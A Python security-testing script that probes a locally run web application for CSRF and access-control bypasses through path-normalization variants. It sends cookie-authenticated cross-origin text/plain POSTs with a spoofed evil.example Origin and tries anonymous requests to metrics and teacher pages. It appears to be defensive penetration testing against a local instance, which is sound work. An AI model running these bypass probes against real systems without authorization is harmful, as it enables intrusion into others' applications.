from lib import *
from setup_consts import *
import http.client
def raw(name, method, path, headers, body=b""):
    c = http.client.HTTPConnection("127.0.0.1", 18600, timeout=10)
    t0=time.time(); c.request(method, path, body=body, headers=headers); r = c.getresponse(); data = r.read(); dt=time.time()-t0
    flags = ["5XX"] if r.status>=500 else []
    print(f"{r.status} {dt*1000:5.0f}ms {name:55} {data[:140]!r}")
    LOG.append({"name":name,"status":r.status,"ms":int(dt*1000),"flags":flags,"curl":f"curl -s -i --path-as-is -X {method} " + " ".join(f"-H '{k}: {v}'" for k,v in headers.items()) + (f" --data-binary '{body.decode()}'" if body else "") + f" 'http://127.0.0.1:18600{path}'"}); COUNT[0]+=1
    return r.status, data
s = requests.Session(); s.get(BASE+"/login"); s.post(BASE+"/j_security_check", data={"username":"teach1","password":PW}, headers={"Origin":BASE}, allow_redirects=False)
ck = "; ".join(f"{c.name}={c.value}" for c in s.cookies)
body = b'{"name":"csrf-class"}'
for p in ["/api/v1/classes", "//api/v1/classes", "/api//v1/classes", "/./api/v1/classes", "/x/../api/v1/classes", "/%61pi/v1/classes", "/API/v1/classes", "/api/v1/classes/", "/api;x=1/v1/classes", "/api/v1;x/classes", "/api/v1/classes;x=1", "/api%2Fv1/classes"]:
    raw(f"cookie-only text/plain POST {p}", "POST", p, {"Cookie": ck, "Content-Type": "text/plain", "Origin":"http://evil.example"}, body)
for p in ["//api/v1/classes", "/%61pi/v1/classes", "/api/v1/classes;x=1"]:
    raw(f"cookie-only GET {p}", "GET", p, {"Cookie": ck})
for p in ["//q/metrics", "/q/./metrics", "/q//metrics", "/%71/metrics", "/q/metrics/", "/q/metrics;x"]:
    raw(f"anon metrics variant {p}", "GET", p, {})
for p in ["/teach//questions", "//teach/questions", "/%74each/questions"]:
    raw(f"anon page variant {p}", "GET", p, {})
r = req("classes of T1", "GET", "/api/v1/classes", auth=T1); print("   csrf-class created?", "csrf-class" in r.text)
dump("./log-pathnorm.json")
